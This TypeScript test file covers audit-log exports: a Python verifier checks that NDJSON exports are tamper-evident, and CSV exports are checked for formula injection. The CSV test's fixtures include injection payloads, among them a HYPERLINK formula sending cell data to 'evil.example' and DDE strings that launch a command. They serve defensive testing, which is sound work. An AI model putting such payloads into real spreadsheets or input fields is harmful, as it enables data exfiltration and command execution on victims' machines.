// Exports of the audit log: a file that anyone can verify without the server, and a file for a spreadsheet.
import { spawnSync } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { call, startTestServer, type TestServer } from "../kit/index.ts";
import { newTeam, recordOf, type Team } from "../members/team.ts";
import { exportAll, plantEntries } from "./long-log.ts";

const needed = process.env["CI"] === "true";
const hasPython = spawnSync("python3", ["--version"]).status === 0;
const verifier = fileURLToPath(new URL("../../../../packages/db/test/audit/verify.py", import.meta.url));

let server: TestServer;
let directory: string;
beforeAll(async () => {
  server = await startTestServer();
  directory = await mkdtemp(join(tmpdir(), "projo-export-"));
});
afterAll(async () => {
  await server.close();
  await rm(directory, { recursive: true, force: true });
});

/** Runs a verifier in another language, which has only the file and the public keys. */
async function pythonOn(file: string): Promise<unknown> {
  const [path, keys] = [join(directory, "log.ndjson"), join(directory, "keys.json")];
  await writeFile(path, file);
  await writeFile(keys, await (await fetch(`${server.url}/.well-known/projo-audit-keys.json`)).text());
  const { stdout } = spawnSync("python3", [verifier, "--keys", keys, path], { encoding: "utf8" });
  return JSON.parse(stdout);
}

/** Causes audit entries until it is stopped. @returns their number */
function keepWriting({ founder, id }: Team): { stop: () => Promise<number> } {
  const state = { going: true };
  const writing = (async () => {
    for (let done = 0; ; done += 1) {
      if (!state.going) return done;
      const { data } = await founder.call("projects.create", { name: `Project ${done}` }, id);
      await founder.call("projects.delete", { id: data.id }, id);
    }
  })();
  return {
    stop: () => {
      state.going = false;
      return writing;
    },
  };
}

describe("audit.export", () => {
  it.skipIf(!hasPython && !needed)(
    "U4 returns parts of one file that anyone can verify, also while the log grows",
    async () => {
      const team = await newTeam(server);
      await plantEntries(server, team, 3_000);
      const writers = [keepWriting(team), keepWriting(team)];
      const { file, untilSeq, parts } = await exportAll(team, "ndjson", { limit: 250 });
      const written = await Promise.all(writers.map((writer) => writer.stop()));
      expect(Math.min(...written)).toBeGreaterThan(0);
      expect(parts).toBe(Math.ceil(untilSeq / 250));
      expect(await pythonOn(file)).toMatchObject({ intact: true, entries: untilSeq, lastSeq: untilSeq });
      // The verifier refuses a changed file.
      expect(await pythonOn(file.replace("request-2000", "request-2001"))).toMatchObject({
        intact: false,
        seq: 2_001,
        problem: "edited",
      });
      const lines = file.split("\n");
      expect(await pythonOn([...lines.slice(0, 1_500), ...lines.slice(-2)].join("\n"))).toMatchObject({
        intact: false,
        seq: 1_500,
        problem: "truncated",
      });
    },
  );

  it("records each part with the range of its entries", async () => {
    const team = await newTeam(server);
    await plantEntries(server, team, 24);
    await exportAll(team, "ndjson", { limit: 10 });
    await exportAll(team, "csv");
    const exported = (await recordOf(server, team)).filter(({ action }) => action === "audit.exported");
    const part = (format: string, fromSeq: number, toSeq: number) => ({
      actor: team.founder.id,
      action: "audit.exported",
      target: `audit ${team.id}`,
      meta: { after: { format, fromSeq, toSeq, entries: toSeq - fromSeq + 1 } },
    });
    expect(exported).toEqual([
      part("ndjson", 1, 10),
      part("ndjson", 11, 20),
      part("ndjson", 21, 25),
      part("csv", 1, 28),
    ]);
  });

  it("N5 returns a CSV with the same content, in which no cell is a formula", async () => {
    const team = await newTeam(server);
    const { token } = team.founder;
    const invite = (email: string, userAgent: string) =>
      call(server.url, "invites.create", {
        token,
        workspaceId: team.id,
        input: { email, role: "viewer" },
        headers: { "user-agent": userAgent },
      });
    // A spreadsheet removes the apostrophe and shows the text.
    const given: [string, string, string][] = [
      [
        "cmd@example.com",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      ],
      ["+1@example.com", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ["-1@example.com", "-1+1", "'-1+1"],
      ["plain@example.com", "@SUM(1,2)", "'@SUM(1,2)"],
      ["quoted@example.com", 'a "quoted", one', 'a "quoted", one'],
      ["semicolon@example.com", "x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
      ["spaces@example.com", "x;  +1;- 1; a-b", "x;  '+1;'- 1; a-b"],
      ["quotes@example.com", 'x;"=1+1";@SUM(1)', "x;\"'=1+1\";'@SUM(1)"],
    ];
    for (const [email, userAgent] of given) expect((await invite(email, userAgent)).status).toBe(200);
    const { file } = await exportAll(team, "csv", { limit: 2 });
    const [header, ...rows] = readCsv(file);
    const records = rows.map((row) =>
      Object.fromEntries(row.map((cell, place) => [header?.[place] ?? "", cell])),
    );
    const cells = records.filter(({ action }) => action === "invite.created");
    expect(cells.map(({ email, userAgent }) => [email, userAgent])).toEqual(
      given.map(([email, , userAgent]) => [email.replace(/^(?=[+-])/, "'"), userAgent]),
    );
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
    const { data } = await team.founder.call("audit.list", { action: "invite.created" }, team.id);
    const items = data.items as Record<string, unknown>[];
    expect(
      cells.map(({ seq, createdAt, meta, requestId, ip }) => [
        Number(seq),
        createdAt,
        JSON.parse(meta ?? "") as unknown,
        requestId,
        ip,
      ]),
    ).toEqual(
      items
        .toReversed()
        .map((item) => [
          item["seq"],
          item["createdAt"],
          { after: item["after"] },
          item["requestId"],
          item["ip"],
        ]),
    );
  });
});

/** Parses strictly by RFC 4180. @throws Error for a file in another form */
function readCsv(file: string): string[][] {
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
  const rows: string[][] = [[]];
  while (cell.lastIndex < file.length) {
    const at = cell.lastIndex;
    const [, raw = "", end] = cell.exec(file) ?? [];
    if (end === undefined) throw new Error(`No CSV at ${at}: ${file.slice(at, at + 60)}`);
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}
